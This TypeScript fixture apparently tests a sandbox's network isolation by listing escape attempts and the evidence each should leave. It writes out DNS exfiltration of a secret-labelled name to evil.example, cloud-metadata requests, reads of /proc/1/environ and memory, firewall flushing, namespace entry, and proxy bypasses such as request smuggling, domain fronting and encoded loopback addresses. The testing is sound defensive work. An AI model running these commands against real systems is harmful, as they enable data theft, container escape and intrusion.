/**
 * What is tried from inside of a closed network. Each line is a shell's; `evidence` says where it
 * must be found afterwards: among the packets that the network dropped, among the proxy's records,
 * or nowhere, since the kernel refused it before anything was sent.
 *
 * Variables: OUT an address outside, HOST the host's end of the link, OPEN a port on which the host
 * listens everywhere, NEAR the relay of another trial, P the proxy with credentials, STRANGER the
 * same without; PLAIN and TLS ports of `allowed.test`.
 */

export interface Attack {
  readonly script: string;
  readonly evidence:
    | { readonly dropped: string; readonly protocol: "tcp" | "udp" }
    | { readonly reasons: readonly string[] }
    | "none";
}

const direct = "curl -gsk --noproxy '*' -m 3 -o /dev/null";
const proxied = "curl -gsk -m 5 -x $P -o /dev/null";
const py = (code: string) => `python3 -c '${code}'`;
const udp = (host: string, port: number, text: string) =>
  `echo -n "${text}" > /dev/udp/${host}/${port}; true`;
/** Bytes to the proxy as they are; REACHED when the answer begins with a success. */
const raw = (...lines: string[]) =>
  `node $RAW ${lines.map((line) => `'${line}'`).join(" ")} | grep -q "^HTTP/1.1 2" && echo REACHED`;
const reached = (script: string) => `${script} && echo REACHED`;
const dropped = (destination: string, protocol: "tcp" | "udp" = "tcp") => ({
  dropped: destination,
  protocol,
});
const recorded = (...reasons: string[]) => ({ reasons });
const handshake =
  '(printf "GET / HTTP/1.1\\r\\nHost: allowed.test:$TLS\\r\\nConnection: close\\r\\n\\r\\n"; sleep 1) | ' +
  "timeout 5 openssl s_client -quiet -proxy $PROXYHOST -proxy_user worker -proxy_pass pass:pass " +
  "-connect allowed.test:$TLS";
const LABEL = "c2VjcmV0LWtleS1vZi10aGUtdHJpYWwtYW5kLWEtbG90LW1vcmUtb2YtaXQ";

/** Past the proxy. */
export const NETWORK: Readonly<Record<string, Attack>> = {
  "a direct address": {
    script: reached(`${direct} http://$OUT:8099/`),
    evidence: dropped("$OUT:8099"),
  },
  "the proxy's variables unset": {
    script: reached("env -i /usr/bin/curl -s -m 3 http://$OUT:80/"),
    evidence: dropped("$OUT:80"),
  },
  "a client that knows no proxy": {
    script: reached("timeout 5 git -c http.proxy= ls-remote https://$OUT:9418/x 2>/dev/null"),
    evidence: dropped("$OUT:9418"),
  },
  "a direct connection of Node's": {
    script:
      'node -e \'require("net").connect(8098, process.env.OUT, () => console.log("REACHED"))' +
      '.on("error", () => {})\'',
    evidence: dropped("$OUT:8098"),
  },
  IPv6: {
    script: reached(`${direct} http://[2001:db8::9]:8099/`),
    evidence: dropped("[2001:db8::9]:8099"),
  },
  "names by UDP to a server of its own": {
    script: udp("$OUT", 53, `${LABEL}.evil.example`),
    evidence: dropped("$OUT:53", "udp"),
  },
  "names by TCP": {
    script: reached("(echo x > /dev/tcp/$OUT/53) 2>/dev/null"),
    evidence: dropped("$OUT:53"),
  },
  "long names by the system's resolver": {
    script: reached(`getent hosts ${LABEL}.${LABEL}.evil.example`),
    evidence: dropped("$HOST:53", "udp"),
  },
  QUIC: { script: udp("$OUT", 443, "initial"), evidence: dropped("$OUT:443", "udp") },
  "UDP to where somebody listens": {
    script: udp("$OUT", 8053, "stolen"),
    evidence: dropped("$OUT:8053", "udp"),
  },
  multicast: {
    script: udp("224.0.0.251", 5353, "who is there"),
    evidence: dropped("224.0.0.251:5353", "udp"),
  },
  "the cloud's metadata": {
    script: reached(`${direct} http://169.254.169.254/latest/meta-data/`),
    evidence: dropped("169.254.169.254:80"),
  },
  "another port of the host's": {
    script: reached(`${direct} http://$HOST:$OPEN/`),
    evidence: dropped("$HOST:$OPEN"),
  },
  "the host by another address of its": {
    script: reached(`${direct} http://$HERE:$OPEN/`),
    evidence: dropped("$HERE:$OPEN"),
  },
  "the host's loopback": {
    script: reached(`${direct} http://127.0.0.1:$OPEN/`),
    evidence: "none",
  },
  "another trial's relay": {
    script: reached(`${direct} $NEAR/`),
    evidence: dropped("$NEAR"),
  },
  ICMP: {
    script: py(
      "import socket as s; s.socket(s.AF_INET, s.SOCK_DGRAM, s.IPPROTO_ICMP)" +
        '.sendto(b"\\x08\\0\\0\\0\\0\\0\\0\\0", ("11.77.91.2", 0)); print("REACHED")',
    ),
    evidence: "none",
  },
  "raw sockets": {
    script: py('import socket as s; s.socket(s.AF_INET, s.SOCK_RAW, 17); print("REACHED")'),
    evidence: "none",
  },
  "packets of its own making": {
    script: py('import socket as s; s.socket(s.AF_PACKET, s.SOCK_RAW); print("REACHED")'),
    evidence: "none",
  },
};

/** At what holds it. */
export const WALLS: Readonly<Record<string, string>> = {
  "the firewall, by nft": "nft flush ruleset",
  "the firewall, as root of a user namespace": "unshare -Ur nft flush ruleset",
  "the link, taken down": "ip link set eth0 down",
  "the link, removed": "ip link delete eth0",
  "the link, from a user namespace": "unshare -Ur ip link set eth0 down",
  "another address": "ip address add 11.77.91.9/24 dev eth0",
  "another route": "ip route add 11.0.0.0/8 dev eth0",
  "the network of the first process": "nsenter --net=/proc/1/ns/net true",
  "the network of its parent": "nsenter --net=/proc/$PPID/ns/net true",
  "the mounts of the first process": "nsenter --mount=/proc/1/ns/mnt true",
  "ptrace of the first process":
    'python3 -c "import ctypes; exit(ctypes.CDLL(None).ptrace(16, 1, 0, 0) != 0)"',
  "the environment of the first process": "cat /proc/1/environ",
  "the root of the first process": "ls /proc/1/root/",
  "the memory of the first process": "head -c 1 /proc/1/mem",
  "the host's processes": "test -e /proc/$WORKER",
  "the end of the first process": "kill -9 1",
  "a mount": "mount -t tmpfs none /mnt",
  "a mount taken away": "umount /run",
  "the resolver's file": "echo nameserver $OUT > /etc/resolv.conf",
  forwarding: "echo 1 > /proc/sys/net/ipv4/ip_forward",
  "rights of a set-uid program": "su -c true root < /dev/null",
  "the clock": "date -s 2030-01-01",
  "Docker's socket": "ls /run/docker.sock /var/run/docker.sock",
  "Nomad's and Vault's": "ls /run/nomad /run/vault /opt/nomad/data /etc/nomad.d/*",
};

/** Through the proxy. */
export const PROXY: Readonly<Record<string, Attack>> = {
  "nobody's credentials": {
    script: reached("curl -sf -m 5 -x $STRANGER -o /dev/null http://allowed.test:$PLAIN/"),
    evidence: recorded("no_session"),
  },
  "a host that no rule names": {
    script: reached(`${proxied} -f http://denied.test/`),
    evidence: recorded("no_rule"),
  },
  "a tunnel to a private address": {
    script: reached(`${proxied} -f https://10.0.0.1/`),
    evidence: recorded("no_rule", "private_address"),
  },
  "an address as one number": {
    script: raw("CONNECT 2130706433:443 HTTP/1.1", "Host: 2130706433:443"),
    evidence: recorded("bad_target", "private_address", "no_rule"),
  },
  "an address in hexadecimal": {
    script: raw("CONNECT 0x7f.1:443 HTTP/1.1", "Host: 0x7f.1:443"),
    evidence: recorded("bad_target", "private_address", "no_rule"),
  },
  "an address in octal": {
    script: raw("CONNECT 0177.0.0.1:443 HTTP/1.1", "Host: 0177.0.0.1:443"),
    evidence: recorded("bad_target", "private_address", "no_rule"),
  },
  "IPv4 within IPv6": {
    script: raw("CONNECT [::ffff:127.0.0.1]:443 HTTP/1.1", "Host: [::ffff:127.0.0.1]:443"),
    evidence: recorded("bad_target", "private_address", "no_rule"),
  },
  "an allowed name that leads to loopback": {
    script: reached(`${proxied} -f http://rebound.test/`),
    evidence: recorded("private_address"),
  },
  "another port of an allowed host": {
    script: raw("CONNECT allowed.test:25 HTTP/1.1", "Host: allowed.test:25"),
    evidence: recorded("no_rule"),
  },
  "domain fronting": {
    script: reached(`${proxied} -f -H "Host: denied.test" https://allowed.test:$TLS/`),
    evidence: recorded("name_mismatch"),
  },
  "HTTP/2 with another authority": {
    script: reached(`${proxied} -f --http2 -H "Host: denied.test" https://allowed.test:$TLS/two`),
    evidence: recorded("name_mismatch"),
  },
  "another server name in the handshake": {
    script: reached(`${handshake} -servername denied.test 2>/dev/null | grep -q ^allowed`),
    evidence: recorded("name_mismatch"),
  },
  "no server name": {
    script: reached(`${handshake} -noservername 2>/dev/null | grep -q ^allowed`),
    evidence: recorded("no_server_name"),
  },
  "another host in the header": {
    script: raw("GET http://allowed.test:$PLAIN/ HTTP/1.1", "Host: denied.test"),
    evidence: recorded("name_mismatch", "bad_request"),
  },
  "two hosts in the header": {
    script: raw(
      "GET http://allowed.test:$PLAIN/ HTTP/1.1",
      "Host: allowed.test",
      "Host: denied.test",
    ),
    evidence: recorded("bad_request", "name_mismatch"),
  },
  "a request within a request": {
    script: raw(
      ...["POST http://allowed.test:$PLAIN/ HTTP/1.1", "Host: allowed.test:$PLAIN"],
      ...["Content-Length: 6", "Transfer-Encoding: chunked", "", "0", "", "G"],
    ),
    evidence: recorded("bad_request"),
  },
  "a WebSocket to a denied host": {
    script: raw(
      ...["GET http://denied.test/ HTTP/1.1", "Host: denied.test", "Connection: Upgrade"],
      ...[
        "Upgrade: websocket",
        "Sec-WebSocket-Version: 13",
        "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==",
      ],
    ),
    evidence: recorded("no_rule"),
  },
  "a redirect to a denied host": {
    script: reached(`${proxied} -fL http://allowed.test:$PLAIN/away`),
    evidence: recorded("no_rule"),
  },
  "what is neither TLS nor HTTP, in a tunnel": {
    script:
      "node $RAW 'CONNECT allowed.test:$TLS HTTP/1.1' 'Host: allowed.test:$TLS' '' 'SSH-2.0-x' " +
      '| grep -q "^SSH" && echo REACHED',
    evidence: recorded("not_http", "bad_request"),
  },
};
